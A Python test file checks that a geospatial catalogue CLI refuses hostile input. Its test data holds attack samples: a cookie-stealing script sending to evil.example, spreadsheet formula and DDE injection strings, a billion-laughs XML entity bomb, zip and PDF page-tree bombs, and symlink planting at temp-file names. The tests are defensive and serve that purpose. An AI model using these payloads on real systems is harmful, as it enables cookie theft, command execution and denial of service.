"""Hostile and broken input: a one-line error naming the value, exit 1 or 2, no traceback,
and the catalogue row for row as it was.

Across modules (readers, importer, the CLI's date options) because the property is the
same for each: what an attacker or a damaged file sends never reaches the catalogue.
"""

from __future__ import annotations

import io
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import no_traceback

from catalog import open_catalog
from catalog.cli import main
from catalog.export import export_catalog

ROOT = Path(__file__).resolve().parent.parent
ODD_DIR = "dossier 'à' \"quoted\" 북한"


def run(path, *args):
    return CliRunner().invoke(main, ["--catalog", str(path), *args])


def dump(path) -> list[str]:
    """Every row of every table, in order: what "unchanged" is compared on."""
    con = sqlite3.connect(path)
    try:
        return list(con.iterdump())
    finally:
        con.close()


def refused(result, code: int, *names: str) -> str:
    """The command failed with ``code`` and one line of error naming every one of ``names``."""
    assert result.exit_code == code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"{type(result.exception).__name__}: {result.exception}")
    lines = [line for line in result.stderr.splitlines() if line.startswith("Error")]
    assert len(lines) == 1, result.stderr
    for n in names:
        assert n in lines[0], lines[0]
    return lines[0]


@pytest.fixture
def before(shipped_path):
    return dump(shipped_path)


# -- encodings --------------------------------------------------------------------------------

def test_non_utf8_report_is_refused(shipped_path, before, tmp_path):
    p = tmp_path / "latin.txt"
    p.write_bytes("Trucks at the Sakkanmol base, said the café owner.\n".encode("cp1252"))
    line = refused(run(shipped_path, "ingest", str(p)), 1, "latin.txt", "0xe9", "--encoding")
    assert "not UTF-8" in line
    assert dump(shipped_path) == before


def test_mixed_encodings_in_one_report_are_refused(shipped_path, before, tmp_path):
    p = tmp_path / "mixed.txt"
    p.write_bytes("Work at the Hoejung-ri base — 회중리.\n".encode()
                  + "Le café près du site.\n".encode("latin-1"))
    refused(run(shipped_path, "ingest", str(p)), 1, "mixed.txt", "0xe9")
    # naming the 8-bit encoding does not help either: the UTF-8 part is then not that
    r = run(shipped_path, "ingest", str(p), "--encoding", "ascii")
    refused(r, 1, "mixed.txt", "ascii")
    assert dump(shipped_path) == before


def test_one_bad_file_in_a_directory_is_listed_and_the_rest_ingested(shipped_path, tmp_path):
    d = tmp_path / "batch"
    d.mkdir()
    (d / "a.txt").write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
    (d / "b.txt").write_bytes(b"\xff\xfe\x00garbage")
    (d / "c.txt").write_text("Work at the Hoejung-ni missile base.\n", encoding="utf-8")
    r = run(shipped_path, "ingest", str(d))
    line = refused(r, 1, "1 report(s) could not be ingested", "other 2 were")
    assert [x for x in r.stderr.splitlines() if x.startswith("not ingested")] == [
        f"not ingested: {d / 'b.txt'}: report {str(d / 'b.txt')!r} is a binary file, not "
        "text (it holds NUL bytes); readable reports are .htm, .html, .markdown, .md, .pdf, "
        ".text, .txt, .xhtml"], line
    with open_catalog(shipped_path) as cat:
        titles = {s.title for s in cat.sources()}
    assert {"a", "c"} <= titles and "b" not in titles


# -- size ---------------------------------------------------------------------------------------

def test_200_mb_report_is_refused_in_little_memory(shipped_path, before, tmp_path):
    """A sparse 200 MiB file (cheap to make); the CLI refuses it by its size, reading none."""
    p = tmp_path / "huge.txt"
    with open(p, "wb") as f:
        f.write(b"Trucks at the Sakkanmol base. ")
        f.truncate(200 * 2**20)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    # The CLI's own peak, read at exit from VmHWM (rusage would count the forked pytest)
    code = ("import atexit, runpy, sys\n"
            "out = sys.argv[1]\n"
            "def hwm():\n"
            "    line = [x for x in open('/proc/self/status') if x.startswith('VmHWM')][0]\n"
            "    open(out, 'w').write(line.split()[1])\n"
            "atexit.register(hwm)\n"
            "sys.argv = ['catalog', *sys.argv[2:]]\n"
            "runpy.run_module('catalog', run_name='__main__')\n")
    hwm = tmp_path / "hwm.txt"
    proc = subprocess.run([sys.executable, "-c", code, str(hwm), "--catalog",
                           str(shipped_path), "ingest", str(p)],
                          capture_output=True, env=env, timeout=120)
    returncode, err = proc.returncode, proc.stderr
    rss_mib = int(hwm.read_text()) / 1024
    print(f"peak RSS refusing a 200 MiB report: {rss_mib:.0f} MiB")
    assert returncode == 1, err
    lines = err.decode().strip().splitlines()
    assert lines == [f"Error: report {str(p)!r} is 200 MiB, over the 64 MiB a report may "
                     "have; split it, or give the text of a large PDF (pdftotext)"]
    assert dump(shipped_path) == before
    assert rss_mib < 250  # the interpreter and libraries take ~150; reading would add 200


def test_report_size_limit_applies_to_the_library(tmp_path, monkeypatch):
    from catalog import readers

    p = tmp_path / "r.txt"
    p.write_text("Trucks at the Sakkanmol base.\n" * 10, encoding="utf-8")
    monkeypatch.setattr(readers, "MAX_REPORT_BYTES", 100)
    with pytest.raises(readers.ReportError, match="over the 0 MiB"):
        readers.read_report(p)
    monkeypatch.setattr(readers, "MAX_REPORT_BYTES", 1000)
    assert readers.read_report(p).text.startswith("Trucks")


# -- PDFs whose page tree lies ------------------------------------------------------------------

def test_pdf_claiming_a_billion_pages_is_read_for_the_page_it_has(shipped_path, tmp_path):
    from hostile_pdf import lying_count_pdf

    p = tmp_path / "liar.pdf"
    p.write_bytes(lying_count_pdf(10**9))
    r = run(shipped_path, "ingest", str(p))
    assert r.exit_code == 0, r.output
    assert "1 known site(s)" in r.stderr
    with open_catalog(shipped_path) as cat:
        assert [c.quote for c in cat.citations(site_id="kp-sakkanmol") if c.char_start == 0] \
            == ["Trucks at the Sakkanmol missile operating base."]


@pytest.mark.parametrize(("levels", "says"), [
    (4, "is a PDF of 10000 pages, over the 2000 a report may have"),
    (9, "Maximum page tree entry limit reached"),  # 10**9 pages: pypdf's own limit
])
def test_pdf_page_tree_bomb_is_refused(shipped_path, before, tmp_path, levels, says):
    from hostile_pdf import page_tree_bomb_pdf

    p = tmp_path / "bomb.pdf"
    p.write_bytes(page_tree_bomb_pdf(levels))
    refused(run(shipped_path, "ingest", str(p)), 1, "bomb.pdf", says)
    assert dump(shipped_path) == before


# -- HTML with scripts --------------------------------------------------------------------------

def test_html_scripts_are_dropped_and_quoted_markup_reaches_the_map_escaped(shipped_path,
                                                                          tmp_path):
    from catalog.mapping import make_map

    p = tmp_path / "page.html"
    p.write_text(
        "<html><head><title>Scripted page</title>"
        "<script>document.title='The Sinpo shipyard near Hoejung-ri'</script></head><body>"
        "<script>fetch('https://evil.example/?' + document.cookie)</script>"
        "<p>Trucks at the Sakkanmol base, a post said: "
        "&lt;script&gt;alert(1)&lt;/script&gt;.</p>"
        "<p onclick=\"alert(2)\">Nothing else.</p></body></html>", encoding="utf-8")
    r = run(shipped_path, "ingest", str(p))
    assert r.exit_code == 0, r.output
    with open_catalog(shipped_path) as cat:
        quotes = [c.quote or "" for c in cat.citations()]
        assert not any("fetch(" in q or "Sinpo" in q or "alert(2)" in q for q in quotes)
        mine = [q for q in quotes if "Sakkanmol base, a post said" in q]
        assert mine == ["Trucks at the Sakkanmol base, a post said: <script>alert(1)</script>."]
        html = make_map(cat).get_root().render()
    assert "<script>alert(1)" not in html
    assert "alert(1)" in html  # it is there, as escaped data


# -- imports: zip bombs, entity expansion, broken CSV -------------------------------------------

def _zip(path, name, data=None, size=0):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        if data is not None:
            z.writestr(name, data)
        else:
            with z.open(name, "w") as f:
                for _ in range(size // 2**20):
                    f.write(b" " * 2**20)


def test_kmz_zip_bomb_is_refused(shipped_path, before, tmp_path):
    p = tmp_path / "bomb.kmz"
    _zip(p, "doc.kml", size=64 * 2**20)  # 64 MiB of spaces in ~64 kB
    assert p.stat().st_size < 200_000
    refused(run(shipped_path, "import", str(p)), 1, "bomb.kmz", "'doc.kml'", "zip bomb")
    assert dump(shipped_path) == before


def test_kmz_size_limit_is_checked_while_unpacking(tmp_path, monkeypatch):
    """The limit holds on the bytes unpacked, not on the sizes the directory states."""
    from catalog import files
    from catalog.errors import ValidationError

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("doc.kml", b"x" * 5000)
    monkeypatch.setattr(files, "MAX_UNZIPPED_BYTES", 4000)
    with zipfile.ZipFile(buf) as z:
        with pytest.raises(ValidationError, match="unpacks to over 4000 bytes"):
            files.read_zip_member(z, "doc.kml")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE kml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark id="x">
<name>&lol9;</name></Placemark></Document></kml>
"""


@pytest.mark.parametrize("suffix", [".kml", ".kmz"])
def test_kml_entity_expansion_is_refused(shipped_path, before, tmp_path, suffix):
    p = tmp_path / f"laughs{suffix}"
    if suffix == ".kml":
        p.write_bytes(BILLION_LAUGHS)
    else:
        _zip(p, "doc.kml", BILLION_LAUGHS)
    refused(run(shipped_path, "import", str(p)), 1, "<!DOCTYPE>", "entity expansion")
    assert dump(shipped_path) == before


@pytest.fixture
def csv_export(shipped, tmp_path):
    out = tmp_path / "exp" / "sites.csv"
    out.parent.mkdir()
    export_catalog(shipped, out, "csv")
    return out


def _edit_csv(path, column, fn):
    import csv

    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    cols = [c for c in rows[0] if fn is not None or c != column]
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, cols, extrasaction="ignore")
        w.writeheader()
        for r in rows:
            if fn is not None:
                r[column] = fn(r[column])
            w.writerow(r)


@pytest.mark.parametrize(("file", "column", "fn", "says"), [
    ("sites.csv", "name", None, "lacks column(s) 'name'"),
    ("sites.aliases.csv", "alias", None, "lacks column(s) 'alias'"),
    ("sites.citations.csv", "source_id", None, "lacks column(s) 'source_id'"),
    ("sites.sources.csv", "title", None, "lacks column(s) 'title'"),
    ("sites.csv", "lat", lambda v: "north", "not a number: 'north'"),
    ("sites.csv", "precision_m", lambda v: "wide", "not a number: 'wide'"),
    ("sites.csv", "status_as_of", lambda v: "2018-13-45", "'2018-13-45'"),
    ("sites.sources.csv", "published", lambda v: "2018-13-45", "'2018-13-45'"),
    ("sites.citations.csv", "char_start", lambda v: "first", "'first'"),
])
def test_broken_csv_import_is_refused(empty, tmp_path, csv_export, file, column, fn, says):
    target = csv_export.with_name(file)
    assert target.is_file(), sorted(p.name for p in csv_export.parent.iterdir())
    _edit_csv(target, column, fn)
    path = tmp_path / "empty.gpkg"  # the ``empty`` fixture's file
    empty.close()
    before = dump(path)
    refused(run(path, "import", str(csv_export)), 1, says)
    assert dump(path) == before


# -- dates like 2018-13-45 wherever a date enters --------------------------------------------

@pytest.mark.parametrize("args", [
    ["ingest", "{report}", "--published", "2018-13-45"],
    ["add-source", "s-1", "--title", "T", "--published", "2018-13-45"],
    ["add-source", "s-1", "--title", "T", "--accessed", "2018-13-45"],
    ["add-site", "s-1", "Name", "--as-of", "2018-13-45"],
])
def test_impossible_date_options_are_usage_errors(shipped_path, before, tmp_path, args):
    report = tmp_path / "r.txt"
    report.write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
    args = [a.format(report=report) for a in args]
    refused(run(shipped_path, *args), 2, "'2018-13-45'")
    assert dump(shipped_path) == before


def test_impossible_date_in_a_geojson_import_is_refused(shipped, shipped_path, tmp_path):
    out = tmp_path / "x.geojson"
    export_catalog(shipped, out, "geojson")
    shipped.close()
    doc = json.loads(out.read_text(encoding="utf-8"))
    doc["sources"][0]["published"] = "2018-13-45"
    out.write_text(json.dumps(doc), encoding="utf-8")
    before = dump(shipped_path)
    refused(run(shipped_path, "import", str(out)), 1, "'2018-13-45'")
    assert dump(shipped_path) == before


def test_impossible_date_in_a_report_header_is_not_taken(shipped_path, tmp_path):
    p = tmp_path / "r.txt"
    p.write_text("Odd Dates Report\n- by A. Writer\n- — 2018-13-45\n"
                 "Trucks at the Sakkanmol base.\n", encoding="utf-8")
    assert run(shipped_path, "ingest", str(p)).exit_code == 0
    with open_catalog(shipped_path) as cat:
        src = next(s for s in cat.sources() if s.title in ("Odd Dates Report", "r"))
        assert src.published is None  # never a guessed date


# -- path names with spaces, quotes and non-ASCII ----------------------------------------------

@pytest.mark.parametrize("fmt", ["geojson", "csv", "kmz", "gpkg"])
def test_odd_path_names_through_ingest_export_import(tmp_path, fmt):
    from catalog.build import DATA_DIR, build_catalog

    d = tmp_path / ODD_DIR
    d.mkdir()
    cat_path = d / "catalogue 'ü' \"x\".gpkg"
    build_catalog(cat_path, DATA_DIR)
    report = d / "rapport « Sakkanmol » 'v2'.txt"
    report.write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
    r = run(cat_path, "ingest", str(report))
    assert r.exit_code == 0, r.output
    out = d / f"export 'é' \"q\" 북.{fmt}"
    r = run(cat_path, "export", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert out.is_file()
    other = d / "other ‘x’.gpkg"
    open_catalog(other, create=True).close()
    r = run(other, "import", str(out))
    assert r.exit_code == 0, r.output
    with open_catalog(cat_path) as a, open_catalog(other) as b:
        assert {s.site_id for s in a.sites(None)} == {s.site_id for s in b.sites(None)}
        assert len(a.citations()) == len(b.citations())


def test_zip_bomb_as_the_embedded_qgis_project_is_refused(shipped_path, tmp_path):
    from catalog.errors import ValidationError
    from catalog.qgis import PROJECT_NAME
    from catalog.stores.geopackage import read_project_qgs

    bomb = tmp_path / "bomb.qgz"
    _zip(bomb, "project.qgs", size=64 * 2**20)
    con = sqlite3.connect(shipped_path)
    with con:
        con.execute("UPDATE qgis_projects SET content=? WHERE name=?",
                    (bomb.read_bytes().hex(), PROJECT_NAME))
    con.close()
    with pytest.raises(ValidationError, match="'project.qgs' unpacks to over .* zip bomb"):
        read_project_qgs(shipped_path)


def test_garbage_gpkg_import_is_refused(shipped_path, before, tmp_path):
    p = tmp_path / "junk.gpkg"
    p.write_bytes(b"SQLite format 3\x00" + bytes(range(256)) * 8)
    refused(run(shipped_path, "import", str(p)), 1, "junk.gpkg", "not a readable catalogue")
    assert dump(shipped_path) == before


def test_report_text_length_limit(shipped_path, before, tmp_path, monkeypatch):
    """What passes the size limit may still hold too much text (an 8 MB text: 590 MB RSS)."""
    from catalog import readers

    monkeypatch.setattr(readers, "MAX_REPORT_CHARS", 1000)
    p = tmp_path / "long report.txt"
    p.write_text("Trucks at the Sakkanmol base.\n" * 40, encoding="utf-8")
    refused(run(shipped_path, "ingest", str(p)), 1, "long report.txt",
            "has 1,200 characters of text, over the 1,000 a report may have; split it")
    assert dump(shipped_path) == before


# -- links planted where a temporary file goes (issue 15, item 11) -----------------------------

PLANT = "feedbeef"


@pytest.fixture
def predictable_names(monkeypatch):
    """Temporary names made predictable, as an attacker watching the folder could learn
    them: the links below are planted at exactly the names a writer picks first."""
    import secrets
    import tempfile

    monkeypatch.setattr(secrets, "token_hex", lambda n=None: PLANT)
    monkeypatch.setattr(tempfile, "_get_candidate_names",
                        lambda: iter([PLANT, *(f"n{k:07d}" for k in range(100))]))


def _plant(directory: Path, name: str, victim: Path) -> None:
    """Links at every temporary name a writer of ``name`` might use, old and new."""
    for link in sorted({f"{name}.part", f".{name}.part", f".{name}.{PLANT}.tmp",
                        f".{name}.{PLANT}{Path(name).suffix}",
                        f".{name}.{PLANT}{Path(name).suffix}-journal",
                        f".{name}.{PLANT}.gpkg", f".{name}.{PLANT}.gpkg-journal",
                        f".{name}.{PLANT}.html"}):
        (directory / link).symlink_to(victim)
    (directory / f".{name}.{PLANT}.catalog-tmp").symlink_to(victim.parent)


@pytest.mark.parametrize("args", [
    ["backup", "{out}/b.gpkg"],
    ["export", "-o", "{out}/e.gpkg"],
    ["map", "-o", "{out}/m.html"],
    ["query", "--format", "map", "-o", "{out}/q.html"],
    ["query", "--format", "gpkg", "-o", "{out}/q.gpkg"],
    ["query", "--format", "geojson", "-o", "{out}/q.geojson"],
    ["export", "-o", "{out}/s.csv"],
])
def test_no_write_through_a_planted_link(shipped_path, tmp_path, predictable_names, args):
    victim_dir = tmp_path / "victim"
    victim_dir.mkdir()
    victim = victim_dir / "victim.gpkg"
    victim.write_bytes(shipped_path.read_bytes())
    before = victim.read_bytes()
    out = tmp_path / "out"
    out.mkdir()
    args = [a.format(out=out) for a in args]
    target = Path(args[-1])
    _plant(out, target.name, victim)
    links = sorted(p.name for p in out.iterdir())
    r = run(shipped_path, *args)
    assert r.exit_code == 0, r.output
    assert victim.read_bytes() == before
    assert sorted(victim_dir.iterdir()) == [victim]
    assert target.is_file() and not target.is_symlink() and target.stat().st_size > 0
    # the links are left alone, and no temporary is left behind
    after = sorted(p.name for p in out.iterdir())
    assert set(links) <= set(after)
    assert all((out / name).is_symlink() for name in links)
    made = [out / name for name in after if name not in links]
    assert target in made
    assert all(p.is_file() and not p.is_symlink() and not p.name.startswith(".")
               for p in made), made


# -- control characters, normalised once at the reader (issue 15, item 7) ----------------------

CONTROL_REPORT = ("Trucks at the Sakkanmol base were seen again.\n" * 200  # past 8 KB
                  + "Work continued at the Hoejung-ni\x00 missile base.\x0c"
                  + "Page two: the Sakkanmol base \x1b[31mexpanded\x1b[0m, a \x07bell\x7f and a"
                  + " \x9b2Jclear.\n")


def _has_controls(text: str) -> bool:
    return any(ord(c) < 32 and c not in "\t\n\r" or 0x7f <= ord(c) <= 0x9f for c in text)


def test_control_characters_never_reach_the_catalogue(store_location, tmp_path):
    """A NUL after the first 8 KB, a form feed (pdftotext's page break), ANSI escapes:
    stored as spaces and line breaks, so KML stays well-formed and PostgreSQL takes the
    text; offsets still point into the file."""
    from catalog.build import DATA_DIR, build_catalog
    from catalog.readers import content_hash, read_report

    build_catalog(store_location, DATA_DIR)
    p = tmp_path / "controls.txt"
    p.write_text(CONTROL_REPORT, encoding="utf-8")
    r = run(store_location, "ingest", str(p))
    assert r.exit_code == 0, r.output
    with open_catalog(store_location) as cat:
        src = cat.find_source(content_hash=content_hash(p.read_bytes()))
        cites = cat.citations(source_id=src.source_id)
    assert len(cites) >= 2
    text = read_report(p).text
    assert len(text) == len(CONTROL_REPORT)  # one for one: offsets count the file's
    for c in cites:
        assert not _has_controls(c.quote), repr(c.quote)
        assert text[c.char_start:c.char_end] == c.quote
    assert any("Hoejung-ni  missile base." in c.quote for c in cites)
    kml = tmp_path / "out.kml"
    r = run(store_location, "export", "-o", str(kml))
    assert r.exit_code == 0, r.output
    import xml.etree.ElementTree as ET

    ET.parse(kml)  # well-formed
    other = tmp_path / "other.gpkg"
    r = run(other, "init")
    assert r.exit_code == 0, r.output
    r = run(other, "import", str(kml))
    assert r.exit_code == 0, r.output


@pytest.mark.parametrize("fmt", [".md", ".html"])
def test_control_characters_in_metadata_are_normalised(shipped_path, tmp_path, fmt):
    p = tmp_path / f"r{fmt}"
    title = "Odd\x1b[2J title\x1f here"
    if fmt == ".md":
        p.write_text(f"---\ntitle: {title}\nauthor: A\x07 Writer\n---\n"
                     "Trucks at the Sakkanmol base.\n", encoding="utf-8")
    else:
        p.write_text(f"<html><head><title>{title}</title><meta name='author' "
                     "content='A\x07 Writer'></head><body><p>Trucks at the Sakkanmol base."
                     "</p></body></html>", encoding="utf-8")
    assert run(shipped_path, "ingest", str(p)).exit_code == 0
    with open_catalog(shipped_path) as cat:
        src = next(s for s in cat.sources() if s.title.startswith("Odd"))
    assert not _has_controls(src.title) and not any(map(_has_controls, src.authors))


# -- times that are not times, or lie in the future (issue 15, item 8) -------------------------

BAD_STAMPS = [("<img src=x onerror=alert(1)>", "must be a time"),
              ("9999-12-31T23:59:59.999Z", "is in the future"),
              ("2999-01-01T00:00:00.000Z", "is in the future"),
              ("2018-13-45T00:00:00.000Z", "not a real time")]


@pytest.mark.parametrize(("stamp", "says"), BAD_STAMPS)
def test_impossible_updated_at_in_a_geojson_import_is_refused(store_location, tmp_path,
                                                               stamp, says):
    from catalog.build import DATA_DIR, build_catalog

    (tmp_path / "src").mkdir()
    build_catalog(tmp_path / "src" / "c.gpkg", DATA_DIR)
    out = tmp_path / "src" / "x.geojson"
    with open_catalog(tmp_path / "src" / "c.gpkg") as cat:
        export_catalog(cat, out, "geojson")
    doc = json.loads(out.read_text(encoding="utf-8"))
    doc["features"][1]["properties"]["updated_at"] = stamp
    out.write_text(json.dumps(doc), encoding="utf-8")
    open_catalog(store_location, create=True).close()
    line = refused(run(store_location, "import", str(out)), 1, "updated_at", says,
                   repr(stamp))
    assert "kp-" in line  # names the site
    with open_catalog(store_location) as cat:
        assert cat.is_empty()


def _stamp_site(path, stamp, site_id="kp-sakkanmol"):
    """Set a stored time as raw SQL (or an old version of this program) could."""
    from catalog.stores.geopackage import connect

    con = connect(path)
    con.execute("UPDATE sites SET updated_at=? WHERE site_id=?", (stamp, site_id))
    con.close()


@pytest.mark.parametrize(("stamp", "says"), BAD_STAMPS)
def test_impossible_updated_at_in_a_gpkg_import_is_refused(shipped_path, tmp_path, stamp,
                                                            says):
    _stamp_site(shipped_path, stamp)
    other = tmp_path / "other.gpkg"
    open_catalog(other, create=True).close()
    before = dump(other)
    refused(run(other, "import", str(shipped_path)), 1, "updated_at", "kp-sakkanmol", says)
    assert dump(other) == before


@pytest.mark.parametrize(("stamp", "says"), BAD_STAMPS)
def test_validate_reports_impossible_times_and_edits_stay_one_line(shipped_path, stamp, says):
    _stamp_site(shipped_path, stamp)
    con = sqlite3.connect(shipped_path)
    with con:
        con.execute("UPDATE site_history SET changed_at=? WHERE fid=(SELECT min(fid) FROM "
                    "site_history)", (stamp,))
    con.close()
    r = run(shipped_path, "validate")
    assert r.exit_code == 1 and no_traceback(r), r.output
    errors = [line for line in r.stderr.splitlines() if line.startswith("error")]
    assert any("kp-sakkanmol" in e and says in e and "updated_at" in e for e in errors), errors
    assert any("bad-history" in e and says in e for e in errors), errors
    r = run(shipped_path, "update-site", "kp-sakkanmol", "--notes", "edited")
    assert no_traceback(r), repr(r.exception)
    assert r.exit_code in (0, 1), r.output
    if r.exit_code:
        refused(r, 1, "kp-sakkanmol", "updated_at")


# -- a hostile GeoPackage given to `catalog import` (issue 15, item 10) ------------------------

def _sha(path) -> str:
    import hashlib

    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _import_in_a_process(catalog, file, timeout=120):
    """``catalog import`` in its own process: a hang fails the test instead of stalling it."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "catalog", "--catalog", str(catalog),
                           "import", str(file)], capture_output=True, text=True, env=env,
                          timeout=timeout)


def test_import_does_not_change_its_input(shipped_path, tmp_path):
    from catalog.build import DATA_DIR, build_catalog

    theirs = tmp_path / "theirs.gpkg"
    build_catalog(theirs, DATA_DIR)
    con = sqlite3.connect(theirs)
    assert con.execute("PRAGMA journal_mode = DELETE").fetchone()[0] == "delete"
    con.close()
    digest, names = _sha(theirs), sorted(p.name for p in tmp_path.iterdir())
    r = run(shipped_path, "import", str(theirs))
    assert r.exit_code == 0, r.output
    assert _sha(theirs) == digest  # not a byte changed, the journal mode included
    assert sorted(p.name for p in tmp_path.iterdir()) == names  # no -wal or -shm made


RECURSIVE_VIEW = """
CREATE VIEW sources AS
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
SELECT 's-' || i AS source_id, 'T' AS title, '[]' AS authors, NULL AS publisher,
       NULL AS published, NULL AS url, NULL AS accessed, 'other' AS kind,
       NULL AS content_hash, NULL AS notes, i AS fid FROM n
"""


def test_a_recursive_view_in_place_of_a_table_is_refused_at_once(shipped_path, tmp_path):
    from catalog.build import DATA_DIR, build_catalog

    hostile = tmp_path / "hostile.gpkg"
    build_catalog(hostile, DATA_DIR)
    con = sqlite3.connect(hostile)
    con.execute("PRAGMA foreign_keys = OFF")
    con.execute("PRAGMA legacy_alter_table = ON")
    con.execute("DROP VIEW IF EXISTS site_citations")
    con.execute("DROP TABLE sources")
    con.execute(RECURSIVE_VIEW)
    con.commit()
    con.close()
    digest, before = _sha(hostile), dump(shipped_path)
    try:
        proc = _import_in_a_process(shipped_path, hostile)
    except subprocess.TimeoutExpired:
        pytest.fail("catalog import hung on a recursive view named 'sources'")
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.strip().splitlines() == [
        f"Error: {str(hostile)!r} is not a catalogue: 'sources' should be tables, not views"]
    assert _sha(hostile) == digest
    assert dump(shipped_path) == before


def test_reading_an_import_has_a_time_budget(shipped_path, tmp_path, monkeypatch):
    """Whatever a file holds, reading it stops when the budget is spent (a budget of 0 s
    stops the first statement that runs 10,000 SQLite instructions)."""
    from catalog import Site
    from catalog.stores import geopackage

    big = tmp_path / "big.gpkg"
    with open_catalog(big, create=True) as cat:
        cat.add_sites(Site(f"s-{i}", f"Site {i}", "other") for i in range(3000))
    before = dump(shipped_path)
    monkeypatch.setattr(geopackage, "READ_ONLY_SECONDS", 0.0, raising=False)
    refused(run(shipped_path, "import", str(big)), 1, "big.gpkg", "took over 0 s")
    assert dump(shipped_path) == before


def test_an_oversized_value_in_an_import_is_refused(shipped_path, tmp_path, monkeypatch):
    from catalog.stores import geopackage

    theirs = tmp_path / "theirs.gpkg"
    theirs.write_bytes(shipped_path.read_bytes())
    _stamp_notes = "UPDATE sites SET notes = ? WHERE site_id = 'kp-sakkanmol'"
    con = geopackage.connect(theirs)
    con.execute(_stamp_notes, ("x" * 5000,))
    con.close()
    monkeypatch.setattr(geopackage, "READ_ONLY_MAX_VALUE", 4000, raising=False)
    before = dump(shipped_path)
    refused(run(shipped_path, "import", str(theirs)), 1, "theirs.gpkg", "too big")
    assert dump(shipped_path) == before


# -- spreadsheet formulas in CSV outputs (issue 15, item 6) ------------------------------------

EVIL = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        "alias": "=Evil(1)",
        "title": "+cmd|' /C calc'!A0",
        "quote": "@SUM(1+1)*cmd|' /C calc'!A0",
        "notes": "-2+3+cmd|' /C calc'!A0"}


@pytest.fixture
def evil_path(shipped_path):
    for args in (["update-site", "kp-sakkanmol", "--name", EVIL["name"],
                  "--notes", EVIL["notes"]],
                 ["add-alias", "kp-sakkanmol", EVIL["alias"]],
                 ["add-source", "s-evil", "--title", EVIL["title"]],
                 ["cite", "kp-sakkanmol", "s-evil", "--quote", EVIL["quote"]]):
        r = run(shipped_path, *args)
        assert r.exit_code == 0, (args, r.output)
    return shipped_path


def _cells(path) -> list[str]:
    import csv

    with open(path, encoding="utf-8", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_neutralise_formulas(evil_path, tmp_path):
    out = tmp_path / "x" / "sites.csv"
    r = run(evil_path, "export", "-o", str(out))
    assert r.exit_code == 0, r.output
    cells = [c for f in out.parent.iterdir() for c in _cells(f)]
    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not _number(c)]
    assert runnable == []
    for value in EVIL.values():
        assert "'" + value in cells
    # the import takes them back as they were
    other = tmp_path / "other.gpkg"
    assert run(other, "init").exit_code == 0
    r = run(other, "import", str(out))
    assert r.exit_code == 0, r.output
    with open_catalog(other) as cat:
        s = cat.get_site("kp-sakkanmol")
        assert (s.name, s.notes) == (EVIL["name"], EVIL["notes"])
        assert EVIL["alias"] in [a.alias for a in cat.aliases("kp-sakkanmol")]
        assert cat.get_source("s-evil").title == EVIL["title"]
        assert EVIL["quote"] in [c.quote for c in cat.citations(site_id="kp-sakkanmol")]


def test_csv_formula_escaping_can_be_turned_off_and_covers_query(evil_path, tmp_path):
    out = tmp_path / "raw.csv"
    r = run(evil_path, "export", "-o", str(out), "--no-escape-formulas")
    assert r.exit_code == 0, r.output
    assert EVIL["name"] in _cells(out)
    r = run(evil_path, "query", "--format", "csv", "--name", "Sakkanmol")
    assert r.exit_code == 0, r.output
    import csv

    cells = [c for row in csv.reader(io.StringIO(r.stdout)) for c in row]
    assert "'" + EVIL["name"] in cells and EVIL["name"] not in cells


# -- a batch with a report the catalogue refuses (issue 15, item 12) ---------------------------

JS_REPORT = ("---\ntitle: Scripted\nurl: javascript:alert(document.cookie)\n---\n"
             "Trucks at the Hoejung-ni missile base.\n")


def test_a_refused_report_in_a_batch_is_named_and_the_rest_ingested(shipped_path, tmp_path):
    d = tmp_path / "batch"
    d.mkdir()
    (d / "a.txt").write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
    (d / "b.md").write_text(JS_REPORT, encoding="utf-8")
    (d / "c.txt").write_text("Work at the Hoejung-ni missile base.\n", encoding="utf-8")
    r = run(shipped_path, "ingest", str(d))
    refused(r, 1, "1 report(s) could not be ingested", "other 2 were")
